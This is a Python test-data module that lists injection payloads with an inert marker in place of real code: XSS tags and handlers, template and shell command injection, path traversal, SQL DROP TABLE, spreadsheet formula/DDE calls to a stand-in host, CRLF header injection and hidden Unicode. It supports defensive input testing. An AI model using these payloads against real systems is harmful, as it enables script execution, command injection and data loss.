"""What somebody could type to do harm: markup, addresses that run, templates, formulas, signs that cannot be seen."""

from __future__ import annotations

MARK = "piege"  # in everything that would run; ! stands for it below

_TAGS = r"""
<script>!()</script>
<ScRiPt src=//!.example/x></sCrIpT>
<img src=x onerror=!()>
<svg onload=!()>
<svg><script>!()</script></svg>
<iframe src=javascript:!()>
<iframe srcdoc='<script>!()</script>'>
<body onload=!()>
<details open ontoggle=!()>
<video><source onerror=!()></video>
<audio src=x onerror=!()>
<input autofocus onfocus=!()>
<select autofocus onfocus=!()>
<marquee onstart=!()>
<a href=javascript:!()>x</a>
<a href='data:text/html,!'>x</a>
<form action=//!.example><button>x
<button formaction=javascript:!()>x
<object data=//!.example>
<embed src=//!.example>
<link rel=stylesheet href=//!.example>
<style>@import '//!.example'</style>
<meta http-equiv=refresh content='0;url=//!.example'>
<base href=//!.example/>
<math><mi xlink:href=//!>
<template><script>!()</script></template>
</title><script>!()
</script><script>!()
</textarea><img src=x onerror=!()>
</td></table><script>!()</script>
--><script>!()</script>
<![CDATA[<script>!()</script>]]>
<!--<img src='--><img src=x onerror=!()>'>
<x onclick=!()>x</x>
<p style=background:url(//!.example)>x
<table background=//!.example>
<noscript><p title='</noscript>!'>
<w:fldSimple w:instr='INCLUDETEXT //!'/>
<?xml version='1.0'?><!DOCTYPE x SYSTEM '//!'>
"""
_OUT = r"""
" onmouseover=!() x="
' onfocus=!() autofocus x='
"><img src=x onerror=!()>
'><svg onload=!()>
`-!()-`
\"-!()//
';!();//
</a href=!>
&lt;script&gt;!()&lt;/script&gt;
&#60;script&#62;!
%3Cscript%3E!()%3C/script%3E
\u003cscript\u003e!()
\x3cscript\x3e!()
＜script＞!()＜/script＞
"""
_ADDRESSES = r"""
javascript:!()
JaVaScRiPt:!()
java	script:!()
 javascript:!()
vbscript:!()
data:text/html,<script>!()</script>
//!.example/x
http://!.example
file:///etc/!
[x](javascript:!())
![x](//!.example/x)
<javascript:!()>
[x]: javascript:!()
\\!.example\x
"""
_TEMPLATES = r"""
{{ ! }}
{{ 7 * 7 }} !
{% import os %} !
${!()}
#{!()}
<%= ! %>
{!}
%(!)s
%n%n%s !
{{''.__class__.__mro__}} !
$(touch !)
`touch !`
; touch !
../../../../!
'; DROP TABLE live_event; -- !
#import "!.typ"
#read("/etc/!")
$ ! $
@!
#set page(fill: red) !
\input{!}
]]> !
C5-083 !
[C5-083] !
"""
_FORMULAS = r"""
=1+1 !
+1+1 !
-1+1 !
@SUM(1) !
=cmd|' /C calc'!A0 !
=HYPERLINK("http://!.example")
=IMPORTXML("http://!.example","//a")
＝1+1 !
 =1+1 !
"=1+1 !
'=1+1 !
=DDE("!")
;=1+1 !
=WEBSERVICE("http://!.example")
"""
_UNSEEN = [
    "\u202egnp.!\u202c", "\u2066!\u2069", "\u200b=1+1 !", "a\u0000!", "a\u0007\u001b[31m!", "\ud800!", "!\udfff",
    "\ufffe!", "\ufeff!", "\u2028!\u2029", "a\r\nSet-Cookie: !=1", "é" * 25 + "!", "e" + "\u0301" * 25 + "!",
    "👩\u200d👩\u200d👧!", "ﷺ!", "\U000e0041!", "𝕡!", "مرحبا !", "!" + "\u200d" * 25, "\x7f\x80\x9f!",
]  # fmt: skip

_LINES = [line for block in (_TAGS, _OUT, _ADDRESSES, _TEMPLATES, _FORMULAS) for line in block.strip("\n").split("\n")]
PAYLOADS = tuple(one.replace("!", MARK) for one in (*_LINES, *_UNSEEN))
